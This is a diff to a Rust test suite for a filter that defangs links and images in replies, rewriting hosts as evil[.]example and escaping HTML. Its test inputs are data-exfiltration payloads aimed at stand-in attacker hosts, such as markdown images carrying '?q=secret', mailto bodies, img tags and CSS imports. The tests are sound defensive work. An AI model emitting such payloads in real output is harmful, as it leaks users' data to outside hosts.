@@ -9,29 +9,40 @@ fn shown(text: &str) -> String {
 #[test]
 fn nothing_is_loaded_and_nothing_can_be_clicked() {
     for (reply, expected) in [
-        ("a ![x](https://evil.example/p?q=secret) b", "a ![x] (picture removed: `evil.example/…`) b"),
-        ("[more](https://evil.example/a)", "[more] (`evil.example/…`)"),
-        ("[more](//evil.example/a)", "[more] (`evil.example/…`)"),
-        ("[more](<https://evil.example/a b>)", "[more] (`evil.example/…`)"),
-        ("![x][r]\n\n[r]: https://evil.example/p", "![x][r]\n\n[r] : `evil.example/…`"),
+        ("a ![x](https://evil.example/p?q=secret) b", "a ![x] (picture removed: `evil[.]example/…`) b"),
+        ("[more](https://evil.example/a)", "[more] (`evil[.]example/…`)"),
+        ("[more](//evil.example/a)", "[more] (`evil[.]example/…`)"),
+        ("[more](<https://evil.example/a b>)", "[more] (`evil[.]example/…`)"),
+        ("![x][r]\n\n[r]: https://evil.example/p", "![x][r]\n\n[r] : `evil[.]example/…`"),
         ("![r]\n[r]:\nhttps:evil.example", "![r]\n[r] :\nhttps:evil.example"),
-        ("See https://evil.example/p?q=1.", "See `evil.example/…`."),
-        ("See HTTPS://api.example.com@evil.test/", "See `evil.test/…`"),
-        ("www.evil.example/x, and", "`www.evil.example/…`, and"),
-        ("<https://evil.example/x>", "&lt;`evil.example/…`>"),
-        ("<img src=\"https://evil.example/x\">", "&lt;img src=\"`evil.example/…`\">"),
-        ("<img src=//evil.example/x>", "&lt;img src=//evil.example/x>"),
-        ("<div style=\"background:url(//evil.example)\">", "&lt;div style=\"background:url(//evil.example)\">"),
-        ("<style>@import '//evil.example'</style>", "&lt;style>@import '//evil.example'&lt;/style>"),
+        ("See https://evil.example/p?q=1.", "See `evil[.]example/…`."),
+        ("See HTTPS://api.example.com@evil.test/", "See `evil[.]test/…`"),
+        ("www.evil.example/x, and", "`www[.]evil[.]example/…`, and"),
+        ("<https://evil.example/x>", "&lt;`evil[.]example/…`>"),
+        ("<img src=\"https://evil.example/x\">", "&lt;img src=\"`evil[.]example/…`\">"),
+        ("<img src=//evil.example/x>", "&lt;img src=//evil[.]example/x>"),
+        ("<div style=\"background:url(//evil.example)\">", "&lt;div style=\"background:url(//evil[.]example)\">"),
+        ("<style>@import '//evil.example'</style>", "&lt;style>@import '//evil[.]example'&lt;/style>"),
         ("<!--[if x]><img src=x>", "&lt;!--[if x]>&lt;img src=x>"),
         ("[x](data:text/html,1)", "[x] (`data/…`)"),
-        ("[x](https&colon;&sol;&sol;evil.example)", "[x] (`httpscolonsolsolevil.example/…`)"),
+        ("[x](https&colon;&sol;&sol;evil.example)", "[x] (`httpscolonsolsolevil[.]example/…`)"),
         ("![x](\\\\evil.example\\p)", "![x] (picture removed: `/…`)"),
-        ("![x](https://evil.example/\n)", "![x] (`evil.example/…`\n)"),
-        ("![x](https://evil.example/", "![x] (`evil.example/…`"),
-        ("ws://evil.example", "ws: //evil.example"),
+        ("![x](https://evil.example/\n)", "![x] (`evil[.]example/…`\n)"),
+        ("![x](https://evil.example/", "![x] (`evil[.]example/…`"),
+        ("ws://evil.example", "ws: //evil[.]example"),
         ("(https:evil.example) behind a bracket", " (https:evil.example) behind a bracket"),
         ("ends with <", "ends with &lt;"),
+        ("See evil.example/x?q=secret.", "See evil[.]example/x?q=secret."),
+        ("a secret.evil.com, **evil.io** and _evil.de_", "a secret[.]evil[.]com, **evil[.]io** and _evil[.]de_"),
+        ("a (evil.example:8080) //evil.example", "a (evil[.]example:8080) //evil[.]example"),
+        ("[x](evil.com)", "[x] (`evil[.]com/…`)"),
+        ("at evil.com. Or evil.com..com", "at evil[.]com. Or evil[.]com..com"),
+        ("//evil.com and ws://evil.com/x", "//evil[.]com and ws: //evil[.]com/x"),
+        ("foo_www.evil.example %evil.рф", "foo_www[.]evil[.]example %evil[.]рф"),
+        ("a@evil.example/x?q=secret", "a@evil[.]example/x?q=secret"),
+        ("mailto:a@evil.example?body=secret", "mailto: a@evil[.]example?body=secret"),
+        ("[x](mailto:a@evil.example) TEL:+15550100", "[x] (`evil[.]example/…`) TEL: +15550100"),
+        ("`see https://evil.example/x`", "`see `evil[.]example/…``"),
     ] {
         assert_eq!(shown(reply), expected, "{reply}");
     }
@@ -42,6 +53,9 @@ fn what_is_no_link_stays_as_it_is() {
     for reply in [
         "Vec<String>, a < b, 3 <= 4, <br>, </b> and vec![1, 2]",
         "`x[0](y)` and [name](page.html) and [part](#part)",
+        "report.pdf, v1.2.3, 3.50, e.g. this, archive.zip/inner.pdf and state.customer.total",
+        "ann@example.com, core.noop, core.wait? Tel: +1 555 0100, mailto: nobody, hotel:5",
+        "12.05.2026/13.05.2026 and/or a.m./p.m. and ...x.y",
         "at 10:30: yes; who, how, what? hhttp",
         "Größe: 7 €",
         "",
@@ -58,9 +72,15 @@ fn addresses_that_a_trusted_text_has_stay() {
     let reply = "[it](https://docs.example.com/a?b=1) https://docs.example.com/a?b=1, www.example.com ";
     let (text, stayed) = without_links(reply, &kept);
     assert_eq!((text.as_str(), stayed.len()), (reply, 2));
+    let kept_bare = links_in("Look at docs.example.com/a, or example.org.");
+    assert_eq!(kept_bare, BTreeSet::from(["docs.example.com/a", "example.org"].map(str::to_owned)));
+    let bare = "docs.example.com/a, docs.example.com/a?q=1, example.org. x.example.org";
+    let (text, stayed) = without_links(bare, &kept_bare);
+    assert_eq!(text, "docs.example.com/a, docs[.]example[.]com/a?q=1, example.org. x[.]example[.]org");
+    assert_eq!(stayed.len(), 2);
     let other = "[it](https://docs.example.com/a?b=2) https://docs.example.com/a?b=1&c=2 www.example.com.evil.test";
     let (text, stayed) = without_links(other, &kept);
-    assert_eq!(text, "[it] (`docs.example.com/…`) `docs.example.com/…` `www.example.com.evil.test/…`");
+    assert_eq!(text, "[it] (`docs[.]example[.]com/…`) `docs[.]example[.]com/…` `www[.]example[.]com[.]evil[.]test/…`");
     assert_eq!(stayed, BTreeSet::new());
 }
 
@@ -73,7 +93,8 @@ fn an_address_without_an_end_is_not_held_back() {
         assert!(filter.held.len() <= MAX_URL + 100, "{}", filter.held.len());
     }
     text.push_str(&filter.push(" end"));
-    assert_eq!(text, "`evil.example/…` end");
+    text.push_str(&filter.end());
+    assert_eq!(text, "`evil[.]example/…` end");
 }
 
 /// What replies are made of that are meant to get through.
@@ -116,6 +137,13 @@ fn reply() -> impl Strategy<Value = String> {
         "style",
         "\"",
         "=",
+        "evil.com",
+        ".com",
+        "mailto:",
+        "tel:",
+        "@",
+        "_",
+        "?",
     ];
     let long = Just("x".repeat(700));
     let part = prop_oneof![12 => prop::sample::select(parts.to_vec()).prop_map(str::to_owned), 1 => long];
@@ -149,6 +177,15 @@ proptest! {
         let text = shown(&text);
         prop_assert!(!text.contains("://"), "{}", text);
         prop_assert!(!text.contains("]:"), "{}", text);
+        let stands_alone = |at: usize| bare::may_follow(text[..at].chars().next_back());
+        for protocol in ["mailto:a", "tel:a"] {
+            prop_assert!(!text.match_indices(protocol).any(|(at, _)| stands_alone(at)), "{}", text);
+        }
+        for (at, host) in text.match_indices("evil.com") {
+            let after = text[at + host.len()..].chars().next();
+            let goes_on = after.is_some_and(|letter| letter.is_alphanumeric() || letter == '@');
+            prop_assert!(goes_on || !stands_alone(at), "{}", text);
+        }
         for (at, _) in text.match_indices("](") {
             let target = text[at + 2..].split(')').next().unwrap_or_default();
             prop_assert!(is_local(target), "{}", text);
